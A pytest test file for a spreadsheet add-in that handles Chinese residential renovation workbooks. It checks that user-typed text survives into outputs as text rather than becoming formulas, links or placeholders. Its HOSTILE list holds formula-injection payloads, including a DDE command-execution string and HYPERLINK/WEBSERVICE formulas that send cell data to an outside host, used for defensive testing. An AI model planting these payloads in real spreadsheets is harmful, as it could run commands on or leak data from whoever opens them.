"""What people type is text, whatever it looks like: no output makes it a formula, a link, a placeholder or markup."""

from datetime import date
from pathlib import Path

import openpyxl
import pytest
from openpyxl import Workbook

from addin.cli.app import _exit_code
from addin.hosts.files import read_book
from addin.pipeline import analyse
from addin.press.delivery import deliver
from addin.tell import catalogue
from addin.unusable import Unusable

HOSTILE = (
    '=HYPERLINK("http://example.invalid/?"&A1,"点这里")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1-1",
    "@SUM(1,1)",
    "=1+1",
    '=WEBSERVICE("http://example.invalid")',
    "{{小区名称}}",
    "{{分摊明细.产权人}}",
    "{{#若 草稿}}",
    "<script>alert(1)</script>",
    "]]><c><f>1+1</f></c>",
    "&#61;1+1",
    "_x003D_1+1",
    "http://example.invalid",
    "'=1+1",
    "\t=1+1",
    '"=1+1',
)
PLACEHOLDERS = tuple(text for text in HOSTILE if text.startswith("{{"))
SOME = (HOSTILE[0], HOSTILE[1], "+1+1", "@SUM(1,1)", "<script>alert(1)</script>", "]]><c><f>1+1</f></c>")
ESCAPED = "_x003D_1+1"
"""In a file this is how the text “=1+1” may be written: it is read as that, and as a text."""


def workbook(path: Path, evil: str) -> Path:
    """Small, and with the text wherever people write freely."""
    book = Workbook()
    sheet = book.active
    sheet.title = "参数"
    for name, value in (
        *(("项目", "值"), ("小区名称", evil), ("表决日期", date(2025, 6, 1)), ("议题", evil), ("街道", evil)),
        *(("核定总投资", 300), ("填表人", evil), ("负责人", evil), ("其他资金来源", evil), ("填报单位", evil)),
    ):
        sheet.append([name, None])
        put(sheet, sheet.max_row, 2, value)
    roster, answers = book.create_sheet("户室清册"), book.create_sheet("同意表")
    roster.append(["楼栋", "单元", "房号", "建筑面积", "产权人", "联系电话", "备注"])
    answers.append(["楼栋", "单元", "房号", "意见", "签字", "备注", "扫描件"])
    items = book.create_sheet("改造项目")
    items.append(["代码", "项目名称", "受益范围", "概算", "排序"])
    items.append(["A1", None, "", 300, 1])
    put(items, 2, 2, evil)
    for at, name in enumerate(HOSTILE):
        roster.append(["1", "1", str(101 + at), 50, None, "", None])
        answers.append(["1", "1", str(101 + at), "同意", None, None, None])
        for column in (5, 7):
            put(roster, at + 2, column, name)
        for column in (5, 6, 7):
            put(answers, at + 2, column, name)
    book.save(path)
    return path


def put(sheet, row: int, column: int, value: object) -> None:
    """As text, also where openpyxl would make it a formula."""
    cell = sheet.cell(row, column, value)
    if isinstance(value, str):
        cell.data_type = "s"


def formulas(path: Path) -> list[str]:
    """What another reader takes for a formula or a link that is not to a cell of the workbook."""
    found = []
    for sheet in openpyxl.load_workbook(path):
        for row in sheet.iter_rows():
            found += [str(cell.value) for cell in row if cell.data_type == "f"]
            found += [cell.hyperlink.target for cell in row if cell.hyperlink and cell.hyperlink.target]
    return found


@pytest.mark.parametrize("evil", SOME)
def test_every_output_of_a_run_holds_it_as_text(tmp_path, evil):
    source = workbook(tmp_path / "甲.xlsx", evil)
    outcome = analyse(read_book(source), date(2026, 1, 1))
    done = deliver(source, outcome, tmp_path / "结果", draft=True)
    marks = ("example.invalid", "cmd|", "1+1", "-1-1", "SUM(1,1)", "<script")
    for path in done.written:
        if path.suffix == ".xlsx":
            assert not [text for text in formulas(path) if any(mark in text for mark in marks)], path.name
    assert catalogue.figures(outcome)["小区名称"] == evil
    form = openpyxl.load_workbook(tmp_path / "结果" / "居民出资分摊明细表.xlsx").worksheets[0]
    texts = [str(cell.value) for row in form.iter_rows() for cell in row if cell.value]
    for name in HOSTILE:
        typed = "=1+1" if name == ESCAPED else name.strip()
        assert any(typed in text for text in texts), name


@pytest.mark.parametrize("evil", PLACEHOLDERS)
def test_a_placeholder_for_a_name_is_never_filled_in(tmp_path, evil):
    """It stands as it was typed; the form whose sheet it would name is refused in a line, and nothing is written."""
    source = workbook(tmp_path / "甲.xlsx", evil)
    outcome = analyse(read_book(source), date(2026, 1, 1))
    assert catalogue.figures(outcome)["小区名称"] == evil
    with pytest.raises(Unusable) as raised:
        deliver(source, outcome, tmp_path / "结果", draft=True)
    assert "占位符" in str(raised.value)
    assert "\n" not in str(raised.value)
    assert list((tmp_path / "结果").iterdir()) == []


@pytest.mark.parametrize("evil", SOME)
def test_the_street_table_and_the_blind_sheet_hold_it_as_text(tmp_path, evil):
    (tmp_path / "各").mkdir()
    source = workbook(tmp_path / "各" / "甲.xlsx", evil)
    assert (
        _exit_code(["batch", str(source.parent), "--out", str(tmp_path / "汇总"), "--summary-only", "--jobs", "1"]) < 2
    )
    tables = list((tmp_path / "汇总").glob("*.xlsx"))
    assert tables
    for path in tables:
        assert not [text for text in formulas(path) if "example.invalid" in text or evil in text]
    assert _exit_code(["sample", str(source), "--seed", "123456", "--out", str(tmp_path / "再录.xlsx")]) == 0
    assert formulas(tmp_path / "再录.xlsx") == []


def test_a_text_that_begins_like_a_formula_comes_back_the_same_through_a_merge(tmp_path):
    first, second = (workbook(tmp_path / f"{name}.xlsx", "=1+1") for name in ("甲", "乙"))
    book = openpyxl.load_workbook(second)
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                cell.data_type = "s" if isinstance(cell.value, str) else cell.data_type
    book["户室清册"].append(["1", "1", "901", 50, None])
    put(book["户室清册"], len(HOSTILE) + 2, 5, "=2+2")
    book.save(second)
    assert _exit_code(["merge", str(first), str(second), "--out", str(tmp_path / "合.xlsx")]) < 2
    assert [text for text in formulas(tmp_path / "合.xlsx") if 'HYPERLINK("#' not in text] == []
    merged = openpyxl.load_workbook(tmp_path / "合.xlsx")["户室清册"]
    owners = [merged.cell(row, 5).value for row in range(2, len(HOSTILE) + 3)]
    assert owners[5] == "=1+1"
    assert owners[-1] == "=2+2"
